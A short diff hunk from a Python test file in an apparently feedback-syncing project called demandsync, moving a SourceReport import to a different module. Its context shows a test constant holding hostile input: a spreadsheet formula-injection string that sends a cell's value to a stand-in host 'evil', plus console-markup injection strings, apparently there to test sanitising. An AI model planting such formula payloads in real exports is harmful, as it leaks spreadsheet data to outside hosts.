@@ -18,7 +18,8 @@ from demandsync.cli.links import export_links, import_links
 from demandsync.cli.main import print_report
 from demandsync.domain import FeedbackItem, Quarantined
 from demandsync.sandbox.jira import JiraSandbox
-from demandsync.sync.run import RunReport, SourceReport
+from demandsync.sync.pull import SourceReport
+from demandsync.sync.run import RunReport
 from demandsync.sync.store.store import Store
 
 HOSTILE_TEXT = ('=HYPERLINK("http://evil/?"&A1) sso [/bold] [/] [link=http://evil]x[/link] '
